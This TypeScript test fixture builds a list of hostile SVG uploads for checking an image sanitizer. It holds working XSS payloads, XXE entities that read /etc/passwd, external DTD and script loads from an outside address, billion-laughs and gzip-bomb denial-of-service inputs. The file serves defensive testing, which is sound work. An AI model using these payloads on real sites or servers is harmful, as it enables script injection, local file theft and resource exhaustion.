import { gzipSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, more = 'width="64" height="64"') => `<svg ${NS} ${more}>${inside}</svg>`;
const file = (name: string, text: string | Buffer): HostileFile => ({
  name,
  type: 'image/svg+xml',
  bytes: Buffer.from(text as string),
});

/** Nested references, each using the previous one ten times. */
const doubling = (levels: number) =>
  Array.from(
    { length: levels },
    (_level, at) => `<g id="g${at + 1}">${`<use xlink:href="#g${at}"/>`.repeat(10)}</g>`,
  ).join('');

const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`;

/**
 * Malicious drawings that would run code, load files or exhaust resources.
 * @param outside an address that must never be requested
 */
export const hostileDrawings = (outside: string): readonly HostileFile[] => [
  file('a script', svg('<script>fetch("/broker/me")</script><rect width="9" height="9"/>')),
  file('a script in CDATA', svg('<script type="text/javascript"><![CDATA[alert(1)]]></script>')),
  file('a script from elsewhere', svg(`<script xlink:href="${outside}/a.js"/>`)),
  file('an event handler', svg('<rect width="9" height="9"/>', 'width="64" height="64" onload="alert(1)"')),
  file(
    'a page inside',
    svg(
      '<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><iframe src="javascript:alert(1)"/></body></foreignObject>',
    ),
  ),
  file('a link that runs', svg('<a xlink:href="javascript:alert(1)"><rect width="64" height="64"/></a>')),
  file(
    'a link that is animated',
    svg('<a><animate attributeName="href" to="javascript:alert(1)"/><rect width="64" height="64"/></a>'),
  ),
  file('a picture from elsewhere', svg(`<image xlink:href="${outside}/track.png" width="64" height="64"/>`)),
  file('a picture of this machine', svg('<image xlink:href="file:///etc/passwd" width="64" height="64"/>')),
  file('a picture beside it', svg('<image xlink:href="../../secret.key" width="64" height="64"/>')),
  file(
    'a style from elsewhere',
    svg(
      `<style>@import url("${outside}/a.css"); @font-face { font-family: x; src: url("${outside}/a.woff") } text { font-family: x }</style><text y="20">x</text>`,
    ),
  ),
  file('a fill from elsewhere', svg(`<rect width="64" height="64" fill="url(${outside}/a.svg#b)"/>`)),
  file('a use from elsewhere', svg(`<use xlink:href="${outside}/a.svg#b"/>`)),
  file(
    'a filter that reads a file',
    svg(
      '<filter id="f"><feImage xlink:href="file:///etc/hostname"/></filter><rect width="64" height="64" filter="url(#f)"/>',
    ),
  ),
  file('a style sheet from elsewhere', `<?xml-stylesheet href="${outside}/a.xsl" type="text/xsl"?>${svg('')}`),
  file(
    'an entity that reads a file',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&x;</text>')}`,
  ),
  file('a definition from elsewhere', `<!DOCTYPE svg SYSTEM "${outside}/evil.dtd">${svg('')}`),
  file(
    'a parameter entity from elsewhere',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${outside}/evil.dtd"> %x;]>${svg('')}`,
  ),
  file(
    'an include',
    `<svg ${NS} xmlns:xi="http://www.w3.org/2001/XInclude" width="64" height="64"><xi:include href="file:///etc/passwd" parse="text"/></svg>`,
  ),
  file('a billion laughs', `${LAUGHS}${svg('<text>&j;</text>')}`),
  file(
    'a tree of uses',
    svg(`<defs><g id="g0"><rect width="1" height="1"/></g>${doubling(9)}</defs><use xlink:href="#g9"/>`),
  ),
  file('a use of itself', svg('<g id="a"><use xlink:href="#a"/></g>')),
  file(
    'a filter that burns',
    svg(
      `<filter id="f" x="-9" y="-9" width="99" height="99"><feTurbulence baseFrequency="0.9" numOctaves="99"/>${'<feGaussianBlur stdDeviation="400"/>'.repeat(40)}</filter><rect width="2000" height="2000" filter="url(#f)"/>`,
      'width="4000" height="4000"',
    ),
  ),
  file(
    'a morphology that burns',
    svg(
      `<filter id="f">${'<feMorphology operator="dilate" radius="999"/>'.repeat(20)}</filter><rect width="3000" height="3000" filter="url(#f)"/>`,
      'width="4000" height="4000"',
    ),
  ),
  file(
    'a pattern of patterns',
    svg(
      `<defs>${Array.from({ length: 9 }, (_p, at) => `<pattern id="p${at + 1}" width="0.01" height="0.01"><rect width="9" height="9" fill="url(#p${at})"/></pattern>`).join('')}</defs><rect width="3000" height="3000" fill="url(#p9)"/>`,
      'width="3000" height="3000"',
    ),
  ),
  file('a hundred thousand layers', svg('<g opacity="0.9">'.repeat(20_000) + '</g>'.repeat(20_000))),
  file('a huge size', svg('<rect width="9" height="9"/>', 'width="100000" height="100000"')),
  file(
    'an endless size',
    svg('<rect width="9" height="9"/>', 'width="1e308" height="1e308" viewBox="0 0 1e308 1e308"'),
  ),
  file('no size at all', svg('<rect width="9" height="9"/>', 'width="0" height="0"')),
  file('a thin line', svg('<rect width="9" height="9"/>', 'width="1" height="30000"')),
  file('a path without end', svg(`<path d="M0 0${'l1 1'.repeat(40_000)}" stroke="red" stroke-dasharray="0.001"/>`)),
  file('letters of a mile', svg('<text font-size="1e9">x</text>')),
  file(
    'a drawing in UTF-16 with a script',
    Buffer.from(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${svg('<script>alert(1)</script>')}`, 'utf16le'),
  ),
  file('a packed bomb', gzipSync(svg(`<!--${' '.repeat(60_000_000)}-->`))),
  file('a drawing with NUL', svg('<text>\0</text><script>alert(1)</script>')),
  file('a page that calls itself a drawing', '<html><body onload=alert(1)><svg></svg></body></html>'),
];
